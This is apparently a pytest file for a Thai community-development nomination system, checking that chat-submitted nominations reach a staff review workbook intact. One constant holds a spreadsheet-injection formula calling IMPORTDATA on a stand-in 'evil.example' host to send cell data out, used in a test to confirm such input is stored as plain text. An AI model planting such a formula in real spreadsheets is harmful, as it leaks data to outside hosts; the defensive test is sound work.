"""What provincial staff see: the local review workbook, written by a job, found again by reference."""
from __future__ import annotations

import time

from openpyxl import load_workbook

from sheets import NOMINATION_HEADERS
from tests.test_nomination_dialogue import HAPPY_PATH, play

FORMULA = '=IMPORTDATA("https://evil.example/?"&A2)'


def wait_for_rows(services, count: int) -> list[dict]:
    for _ in range(200):
        path = services.config.review_workbook_path
        if path.exists():
            sheet = load_workbook(path)["การเสนอชื่อ"]
            rows = [dict(zip(NOMINATION_HEADERS, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
            if len(rows) >= count:
                return rows
        time.sleep(0.05)
    raise AssertionError("rows did not reach the workbook")


def nominate(officer, *, skills: str = "ทำอินโฟกราฟิกและดูแลเพจ Facebook ของอำเภอ", replace: bool = False):
    table = [row if row[1] != "ทำอินโฟกราฟิกและดูแลเพจ Facebook ของอำเภอ" else ("says", skills, row[2])
             for row in HAPPY_PATH[:-1]]
    reply = play(officer, table)
    reply = officer.taps_label("ยืนยันส่ง", reply)
    if replace:
        reply = officer.taps_label("แทนที่", reply)
    return reply


def test_a_confirmed_nomination_becomes_a_row_with_every_column(officer_of, services):
    nominate(officer_of("nong-yai", "สมชาย ใจดี"))
    (row,) = wait_for_rows(services, 1)
    assert row["เลขที่อ้างอิง"] == "CBI-2570-IT-03" and row["ฉบับที่"] == 1
    assert row["อำเภอ"] == "หนองใหญ่" and row["ผู้ได้รับการเสนอชื่อ"] == "นางสาวมาลี ศรีสุข"
    assert row["ตำแหน่ง"] == "นักวิชาการพัฒนาชุมชนชำนาญการ"
    assert row["สังกัด"] == "สำนักงานพัฒนาชุมชนอำเภอหนองใหญ่"
    assert row["คุณสมบัติ (ข้าราชการ พช.)"] == "ใช่" and row["จำนวนผลงาน"] == 2
    assert "[สื่อประชาสัมพันธ์] อินโฟกราฟิกโคก หนอง นา" in row["ผลงาน"]
    assert "https://docs.google.com/spreadsheets/d/abc" in row["ผลงาน"]
    assert row["ผู้ส่ง"] == "สมชาย ใจดี" and row["ส่งเมื่อ"] == "1 มี.ค. 2570 เวลา 10:00 น."
    assert row["สถานะ"] == "รอตรวจสอบ" and row["ความเห็นเจ้าหน้าที่"] in (None, "")
    works = load_workbook(services.config.review_workbook_path)["ผลงาน"]
    work_rows = [[c.value for c in r] for r in works.iter_rows(min_row=2)]
    assert [(r[0], r[1], r[2]) for r in work_rows] == [("CBI-2570-IT-03", 1, "สื่อประชาสัมพันธ์"),
                                                      ("CBI-2570-IT-03", 2, "โปรแกรมและแอป")]
    assert work_rows[0][6].endswith(".jpg")


def test_text_that_looks_like_a_formula_lands_as_text(officer_of, services):
    nominate(officer_of("ban-bueng"), skills=FORMULA)
    wait_for_rows(services, 1)
    sheet = load_workbook(services.config.review_workbook_path)["การเสนอชื่อ"]
    cell = sheet.cell(row=2, column=NOMINATION_HEADERS.index("ทักษะด้านไอที") + 1)
    assert cell.value == FORMULA and cell.data_type == "s"


def test_staff_sorting_and_marking_rows_survive_a_replacement(officer_of, services):
    nominate(officer_of("mueang-chonburi"))
    nominate(officer_of("ko-chan"))
    nongyai = officer_of("nong-yai")
    nominate(nongyai)
    wait_for_rows(services, 3)

    # Staff sort the sheet by district name descending and mark their decisions.
    path = services.config.review_workbook_path
    book = load_workbook(path)
    sheet = book["การเสนอชื่อ"]
    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    rows.sort(key=lambda r: r[2], reverse=True)
    status_col = NOMINATION_HEADERS.index("สถานะ")
    for number, values in enumerate(rows, start=2):
        values[status_col], values[status_col + 1] = "ผ่าน", f"ตรวจแล้ว {values[0]}"
        for column, value in enumerate(values, start=1):
            sheet.cell(row=number, column=column, value=value)
    book.save(path)

    second = officer_of("nong-yai", "เจ้าหน้าที่ใหม่")
    nominate(second, replace=True)
    for _ in range(200):
        rows = {r["เลขที่อ้างอิง"]: r for r in wait_for_rows(services, 3)}
        if rows["CBI-2570-IT-03"]["ฉบับที่"] == 2:
            break
        time.sleep(0.05)
    assert len(rows) == 3
    assert rows["CBI-2570-IT-03"]["ผู้ส่ง"] == "เจ้าหน้าที่ใหม่"
    assert rows["CBI-2570-IT-03"]["สถานะ"] == "รอตรวจสอบ"  # a new revision needs a new look
    assert rows["CBI-2570-IT-03"]["ความเห็นเจ้าหน้าที่"] == "ตรวจแล้ว CBI-2570-IT-03"
    for other in ("CBI-2570-IT-01", "CBI-2570-IT-11"):
        assert rows[other]["สถานะ"] == "ผ่าน" and rows[other]["ความเห็นเจ้าหน้าที่"] == f"ตรวจแล้ว {other}"
    assert services.sheet.reviews()["CBI-2570-IT-01"].status == "ผ่าน"
